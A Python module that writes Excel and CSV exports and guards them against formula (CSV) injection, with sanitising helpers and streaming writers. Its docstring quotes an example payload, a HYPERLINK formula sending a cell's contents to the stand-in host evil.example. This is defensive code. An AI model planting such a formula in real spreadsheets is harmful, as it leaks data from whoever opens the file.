"""What every export writes (Excel and CSV): text a spreadsheet shows and never runs.

A name typed as `=HYPERLINK("http://evil.example/?d="&B3,"…")` is a formula to Excel, LibreOffice
and Google Sheets: opened from an export it could send the sheet's other cells anywhere. Every
export writes its cells through `spreadsheet_value` (CSV) or `append_row` (Excel), here.
"""

import csv
import datetime
import io
from decimal import Decimal
from io import BytesIO

import xlsxwriter
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# A CSV field beginning with one of these is read as a formula (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_value(value, *, csv: bool = False):
    """A value as an export writes it. Text loses the control characters Excel refuses (Word's line
    break, \\x0b); in a CSV, text that a spreadsheet would run gets a leading apostrophe, which makes
    it text. In an .xlsx a cell is text by its type, which `append_row` sets."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if csv and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_row(sheet, values) -> None:
    """A row of plain values on an openpyxl sheet: text typed by users stays text, exactly as typed,
    never a formula (openpyxl makes one of any text that begins with "=")."""
    cells = []
    for value in values:
        cell = Cell(sheet, value=spreadsheet_value(value))
        if cell.data_type == "f":
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)  # (cells made here: no look-up of the sheet's last row, which grows with the sheet)


def workbook_bytes(title: str, rows) -> bytes:
    """An .xlsx of one sheet holding `rows` (the first is the header), written through `append_row`."""
    book = Workbook()
    sheet = book.active
    sheet.title = ILLEGAL_CHARACTERS_RE.sub("", title)[:31] or "Sheet"  # Excel's limit on a sheet's name
    for row in rows:
        append_row(sheet, row)
    output = BytesIO()
    book.save(output)
    return output.getvalue()


# Exports of any size -----------------------------------------------------------------------
# The writers below hold a few rows at a time, whatever the number of rows: a CSV is yielded in
# chunks (for a StreamingHttpResponse or a file), an .xlsx is written by XlsxWriter in its
# constant-memory mode, row by row, every text cell as text (`write_string`), never a formula.

CSV_CHUNK_ROWS = 1000


def strftime_of(django_format: str) -> str:
    """Django's date format ("d/m/Y", as SHORT_DATE_FORMAT has it) for `strftime`, which is faster."""
    return "".join({"d": "%d", "m": "%m", "Y": "%Y", "y": "%y", "j": "%d", "n": "%m"}.get(c, c) for c in django_format)


def csv_chunks(header, rows, *, on_rows=None, day_format="%d/%m/%Y"):
    """The CSV of `header` and `rows` as text chunks of CSV_CHUNK_ROWS rows, every field through
    `spreadsheet_value(csv=True)`, dates as `day_format`. `on_rows(n)` is told how many rows have
    been written so far."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([spreadsheet_value(value, csv=True) for value in header])
    done = 0
    for row in rows:
        writer.writerow([_csv_cell(value, day_format) for value in row])
        done += 1
        if done % CSV_CHUNK_ROWS == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            if on_rows:
                on_rows(done)
    yield buffer.getvalue()
    if on_rows:
        on_rows(done)


def _csv_cell(value, day_format):
    if value is None:
        return ""
    if isinstance(value, str):
        return spreadsheet_value(value, csv=True)
    if isinstance(value, datetime.date):
        return value.strftime(day_format)
    return value


def xlsx_write(target, title: str, header, rows, *, on_rows=None, every: int = 5000) -> int:
    """An .xlsx of one sheet (`header`, then `rows`) written to `target` (a path or a binary file)
    in constant memory. Text is written as text whatever it begins with; dates as Excel dates
    (dd/mm/yyyy); numbers as numbers. Returns the number of rows written; `on_rows(n)` is told
    every `every` rows."""
    book = xlsxwriter.Workbook(target, {"constant_memory": True, "in_memory": False})
    sheet = book.add_worksheet(ILLEGAL_CHARACTERS_RE.sub("", title)[:31] or "Sheet")
    bold = book.add_format({"bold": True})
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    for column, value in enumerate(header):
        sheet.write_string(0, column, spreadsheet_value(str(value)), bold)
    sheet.freeze_panes(1, 0)
    write_string, write_number, write_datetime = sheet.write_string, sheet.write_number, sheet.write_datetime
    done = 0
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row):
            if value is None or value == "":
                continue
            if isinstance(value, str):
                write_string(number, column, spreadsheet_value(value))
            elif isinstance(value, bool):
                sheet.write_boolean(number, column, value)
            elif isinstance(value, datetime.date):
                write_datetime(number, column, value, day)
            elif isinstance(value, int | float | Decimal):
                write_number(number, column, value)
            else:
                write_string(number, column, spreadsheet_value(str(value)))
        done = number
        if on_rows and done % every == 0:
            on_rows(done)
    book.close()
    if on_rows:
        on_rows(done)
    return done
